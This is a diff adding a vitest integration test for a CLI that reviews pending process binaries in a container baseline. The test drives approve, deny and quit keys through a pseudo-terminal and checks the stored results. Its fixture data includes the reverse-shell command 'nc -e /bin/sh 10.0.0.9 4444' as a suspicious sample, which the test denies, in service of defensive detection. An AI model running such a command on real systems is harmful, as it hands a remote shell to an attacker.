@@ -1,0 +1,74 @@
+import { spawn } from "node:child_process";
+import path from "node:path";
+import { describe, expect, inject, it } from "vitest";
+import { entry, freshPrefix, id, openStore, plain, repoRoot, seed } from "./test-support.ts";
+
+const PROMPT = "[q]uit > ";
+
+/**
+ * `outlier baseline review` on a real pseudo-terminal: util-linux `script` gives the
+ * CLI a pty; keystrokes go in through script's stdin, the screen comes out on its stdout.
+ */
+function onTerminal(command: string) {
+  const child = spawn("script", ["-qfec", command, "/dev/null"], { cwd: repoRoot, stdio: ["pipe", "pipe", "pipe"] });
+  let screen = "";
+  child.stdout.on("data", (chunk: Buffer) => (screen += chunk.toString("utf8")));
+  const exited = new Promise<number | null>((resolve) => child.on("exit", resolve));
+  return {
+    screen: () => plain(screen),
+    /** Waits for the n-th prompt, then presses `key`. */
+    async press(key: string, nthPrompt: number) {
+      await expect.poll(() => plain(screen).split(PROMPT).length - 1, { timeout: 15_000 }).toBe(nthPrompt);
+      child.stdin.write(key);
+    },
+    exited,
+  };
+}
+
+describe("outlier baseline review on a terminal", () => {
+  it("shows one pending entry at a time with its evidence and applies the keys pressed", async () => {
+    const redisUrl = inject("redisUrl");
+    const prefix = freshPrefix();
+    await seed(redisUrl, prefix, [
+      {
+        id: id("checkout"),
+        locked: true,
+        entries: [
+          entry("/bin/sh"),
+          entry("/usr/bin/curl", "pending", { pendingReason: "after-lock", parents: ["/usr/bin/python3"] }),
+          entry("/usr/bin/nc", "pending", { pendingReason: "after-lock", sampleArgs: ["nc -e /bin/sh 10.0.0.9 4444"] }),
+          entry("/usr/bin/wget", "pending", { pendingReason: "single-replica" }),
+        ],
+      },
+    ]);
+    const main = path.join(repoRoot, "packages/cli/src/main.ts");
+    const term = onTerminal(`${process.execPath} ${main} baseline review shop/checkout --as ana --reason triage --redis ${redisUrl} --prefix ${prefix}`);
+    await term.press("a", 1); // approve /usr/bin/curl
+    await term.press("x", 2); // not a key: ignored
+    await term.press("d", 2); // deny /usr/bin/nc
+    await term.press("q", 3); // quit before /usr/bin/wget
+    expect(await term.exited).toBe(0);
+
+    const screen = term.screen();
+    expect(screen).toContain("[1/3] shop/Deployment/checkout container app");
+    expect(screen).toContain("/usr/bin/curl  pending (after-lock) — seen after the baseline was locked (unexpected)");
+    expect(screen).toContain("parents: /usr/bin/python3");
+    expect(screen).toContain("args:    nc -e /bin/sh 10.0.0.9 4444");
+    expect(screen).toContain("[3/3] shop/Deployment/checkout container app\r\n  /usr/bin/wget  pending (single-replica)");
+    expect(screen).toContain("approved 1, denied 1, skipped 0");
+
+    const store = await openStore(redisUrl, prefix);
+    const stored = await store.load(id("checkout"));
+    expect(Object.fromEntries([...stored!.entries.values()].map((e) => [e.binary, e.status]))).toEqual({
+      "/bin/sh": "learned",
+      "/usr/bin/curl": "approved",
+      "/usr/bin/nc": "denied",
+      "/usr/bin/wget": "pending",
+    });
+    expect((await store.history(id("checkout"))).map((r) => [r.actor, r.action, r.binary, r.reason])).toEqual([
+      ["ana", "approve", "/usr/bin/curl", "triage"],
+      ["ana", "deny", "/usr/bin/nc", "triage"],
+    ]);
+    await store.close();
+  });
+});
